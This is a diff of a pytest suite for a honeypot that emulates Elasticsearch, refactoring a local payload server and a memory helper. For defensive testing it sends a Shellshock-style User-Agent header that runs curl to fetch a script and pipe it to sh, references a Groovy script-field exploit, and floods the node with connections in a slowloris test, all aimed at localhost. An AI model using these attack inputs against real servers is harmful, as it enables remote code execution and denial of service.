@@ -6,13 +6,11 @@ the file a script payload tells the node to ``wget``."""
 from __future__ import annotations
 
 import asyncio
-import http.server
 import json
 import random
 import re
 import socket
 import subprocess
-import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -20,38 +18,21 @@ from typing import Any
 
 import pytest
 from elasticsearch import Elasticsearch, NotFoundError
-from sensorutil import SensorProc, free_port, need, run_sensor, wait_port
+from payloadserver import serve_payload
+from sensorutil import SensorProc, free_port, need, rss_kb, run_sensor, wait_port
 
 from honeyfarm.sensor.traps.elasticsearch.config import ElasticsearchConfig
 from honeyfarm.sensor.traps.elasticsearch.server import LOGGED_BODY, ElasticsearchTrap
 
+PAYLOAD = b"#!/bin/sh\necho pwned-by-es\n"
+HITS: list[str] = []  # paths the payload server was asked for
 IDLE = 3.0  # the fixture's idle timeout (seconds)
-
-
-class _Payloads(http.server.BaseHTTPRequestHandler):
-    hits: list[str] = []  # noqa: RUF012 - shared by the test and the server thread
-
-    def do_GET(self) -> None:
-        _Payloads.hits.append(self.path)
-        body = b"#!/bin/sh\necho pwned-by-es\n"
-        self.send_response(200)
-        self.send_header("Content-Type", "application/octet-stream")
-        self.send_header("Content-Length", str(len(body)))
-        self.end_headers()
-        self.wfile.write(body)
-
-    def log_message(self, *args: Any) -> None:
-        pass
 
 
 @pytest.fixture(scope="module")
 def payload_server() -> Iterator[int]:
-    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Payloads)
-    t = threading.Thread(target=srv.serve_forever, daemon=True)
-    t.start()
-    yield int(srv.server_address[1])
-    srv.shutdown()
-    srv.server_close()
+    with serve_payload(PAYLOAD, HITS) as port:
+        yield port
 
 
 def es_overrides(port: int, **extra: Any) -> dict[str, dict[str, Any]]:
@@ -261,7 +242,7 @@ def test_groovy_script_fields_is_logged_with_its_cve_and_its_url_fetched(
     dl = next(e for e in evs if e["eventid"] == "cowrie.session.file_download")
     assert dl["url"] == url and dl["trap"] == "elasticsearch" and dl["session"] == q["session"]
     assert dl["request"] == "POST /_search" and len(dl["sha256"]) == 64
-    assert "/x" in _Payloads.hits
+    assert "/x" in HITS
     # A shellshock-style header is a payload too.
     ua = f"() {{ :; }}; /bin/bash -c 'curl -s http://127.0.0.1:{payload_server}/ua.sh | sh'"
     curl("-A", ua, f"http://127.0.0.1:{port}/")
@@ -355,17 +336,10 @@ def test_fuzz_garbage_and_oversized_requests_leave_the_node_up(es: tuple[SensorP
     assert "Traceback" not in log, log[-3000:]
 
 
-def _rss_kb(pid: int) -> int:
-    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
-        if line.startswith("VmRSS:"):
-            return int(line.split()[1])
-    return 0
-
-
 def test_flood_of_connections_and_slowloris(es: tuple[SensorProc, int]) -> None:
     sp, port = es
     assert sp.proc is not None
-    rss0 = _rss_kb(sp.proc.pid)
+    rss0 = rss_kb(sp.proc.pid)
 
     async def flood() -> tuple[int, float]:
         conns = [await asyncio.open_connection("127.0.0.1", port) for _ in range(300)]
@@ -388,7 +362,7 @@ def test_flood_of_connections_and_slowloris(es: tuple[SensorProc, int]) -> None:
         return len(answers), latency
 
     ok, latency = asyncio.run(flood())
-    rss1 = _rss_kb(sp.proc.pid)
+    rss1 = rss_kb(sp.proc.pid)
     print(
         f"flood: 300 connections answered ({ok}); a new request meanwhile in {latency * 1000:.0f} ms;",
         f"RSS {rss0} -> {rss1} kB",
